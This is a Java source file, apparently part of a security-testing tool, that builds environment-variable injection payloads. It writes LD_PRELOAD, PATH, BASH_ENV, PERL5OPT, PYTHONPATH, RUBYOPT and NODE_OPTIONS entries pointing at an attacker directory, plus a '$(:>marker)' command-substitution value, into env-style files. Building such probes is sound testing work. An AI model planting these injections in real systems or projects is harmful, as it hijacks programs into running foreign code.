package dev.holdfast.prove.payload;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.jspecify.annotations.Nullable;

/**
 * Settings that become a program's environment: what stood there, and before it variables by which
 * programs load the attacker's code. Without a blank or a quote, so that they are the same words to
 * {@code export $(cat file)}; and a shell that reads them as a script runs one, too.
 *
 * <p>Sources: environ(7), ld.so(8), bash(1), perlrun(1), python(1), ruby(1), node(1).
 */
public final class Environment implements Payload {
  /** A directory of the attacker's in every world, with what the variables name. */
  public static final String DIRECTORY = "/.holdfast/own";

  /** In it: one whose programs are all the attacker's. */
  public static final String PROGRAMS = DIRECTORY + "/bin";

  /** In it: what stands behind each of those. */
  public static final String PROGRAM = DIRECTORY + "/own.sh";

  private static final byte[] SAMPLE = {'A', '=', 'b', '\n'};

  private static final Pattern NAMED = Pattern.compile("(?i)(.*[-._])?env(ironment)?([-._].*)?");

  /** Lines of this form, and remarks, are all that settings have. */
  private static final Pattern LINE = Pattern.compile("\\s*(export\\s+)?[A-Za-z_][A-Za-z0-9_]*=.*");

  /** With these the name must look like a variable's: much else has this form. */
  private static final Pattern COLON_LINE = Pattern.compile("\\s*[A-Z_][A-Z0-9_]+: .*");

  private static final Pattern REMARK = Pattern.compile("\\s*([#;].*)?");

  private static final Pattern JSON = Pattern.compile("\\{(?=\\s*\"[A-Z_][A-Z0-9_]+\"\\s*:\\s*\")");

  /** Lines and JSON are written otherwise than with an equals sign. */
  private enum Form {
    EQUALS("", "=", "", "\n"),
    COLON("", ": ", "", "\n"),
    JSON("\"", "\": \"", "\"", ", ");

    private final String before;
    private final String between;
    private final String after;
    private final String separator;

    Form(String before, String between, String after, String separator) {
      this.before = before;
      this.between = between;
      this.after = after;
      this.separator = separator;
    }

    String variables(String marker, String note) {
      return all(marker, note).entrySet().stream()
          .map(v -> before + v.getKey() + between + v.getValue() + after + separator)
          .collect(Collectors.joining());
    }
  }

  private static Map<String, String> all(String marker, String note) {
    Map<String, String> all = new LinkedHashMap<>();
    all.put("LD_PRELOAD", DIRECTORY + "/own.so");
    all.put("PATH", PROGRAMS);
    all.put("BASH_ENV", PROGRAM);
    all.put("ENV", PROGRAM);
    all.put("PERL5OPT", "-Mown");
    all.put("PERL5LIB", DIRECTORY);
    all.put("PYTHONPATH", DIRECTORY);
    all.put("RUBYOPT", "-r" + DIRECTORY + "/own.rb");
    all.put("NODE_OPTIONS", "--require=" + DIRECTORY + "/own.js");
    all.put("HOLDFAST", "$(:>" + marker + ")");
    all.put("HOLDFAST_NOTE", note);
    return all;
  }

  /** What is in the attacker's directory, by name, but for {@link #PROGRAMS}. */
  public static Map<String, byte[]> files(String marker) {
    Reader nobody = new Reader("", new byte[0], List.of());
    String note = "own";
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put(DIRECTORY + "/own.so", new SharedObject().contents(nobody, marker, note));
    files.put(PROGRAM, TextPayload.SHELL.contents(nobody, marker, note));
    files.put(DIRECTORY + "/own.rb", TextPayload.RUBY.contents(nobody, marker, note));
    files.put(DIRECTORY + "/own.js", TextPayload.NODE.contents(nobody, marker, note));
    files.put(DIRECTORY + "/own.pm", TextPayload.PERL.contents(nobody, marker, note));
    files.put(DIRECTORY + "/sitecustomize.py", TextPayload.PYTHON.contents(nobody, marker, note));
    return files;
  }

  /** Whether a file of this name holds such settings. */
  public static boolean isNamedSo(String name) {
    return NAMED.matcher(name).matches();
  }

  /** Whether these contents, raw, are such settings. */
  public static boolean isIn(String contents) {
    return form(contents) != null;
  }

  private static @Nullable Form form(String contents) {
    if (contents.startsWith("#!")) {
      return null;
    }
    if (JSON.matcher(contents).find()) {
      return Form.JSON;
    }
    boolean any = false;
    boolean colon = true;
    boolean equals = true;
    for (String line : contents.lines().toList()) {
      if (!REMARK.matcher(line).matches()) {
        any = true;
        equals &= LINE.matcher(line).matches();
        colon &= COLON_LINE.matcher(line).matches();
      }
    }
    if (!any) {
      return null;
    }
    return equals ? Form.EQUALS : colon ? Form.COLON : null;
  }

  /** The same contents, raw, with the variables. */
  public static String with(String contents, String marker, String note) {
    Form found = form(contents);
    Form form = found == null ? Form.EQUALS : found;
    String variables = form.variables(marker, note);
    if (form == Form.JSON) {
      return JSON.matcher(contents).replaceFirst(Matcher.quoteReplacement("{" + variables));
    }
    // What the program reads last counts.
    String others =
        contents
            .lines()
            .filter(line -> all(marker, note).keySet().stream().noneMatch(name -> sets(line, name)))
            .collect(Collectors.joining("\n"));
    return variables + (found == null || others.isEmpty() ? "" : others + "\n");
  }

  private static boolean sets(String line, String name) {
    String bare = line.strip().replaceFirst("^export\\s+", "");
    return bare.startsWith(name + "=") || bare.startsWith(name + ":");
  }

  /** Whether these contents name what is in the attacker's directory. */
  public static boolean namesOwn(byte[] contents) {
    return new String(contents, StandardCharsets.ISO_8859_1).contains(DIRECTORY + "/own.so");
  }

  /** It is nothing by itself: scripts and libraries have such names, too. */
  @Override
  public boolean replaces(Reader reader) {
    return false;
  }

  /** Whoever has no language of its own. */
  @Override
  public boolean isReadBy(Reader reader) {
    return isNamedSo(reader.name())
        || isIn(new String(reader.original(), StandardCharsets.ISO_8859_1));
  }

  /** Whether settings of this name are first of all something else to this program: a script. */
  public static boolean isSomethingElse(String name, List<String> command) {
    return !Payloads.isEnvironment(new Reader(name, SAMPLE.clone(), command));
  }

  @Override
  public byte[] contents(Reader reader, String marker, String note) {
    String original = new String(reader.original(), StandardCharsets.ISO_8859_1);
    return with(original, marker, note).getBytes(StandardCharsets.ISO_8859_1);
  }
}
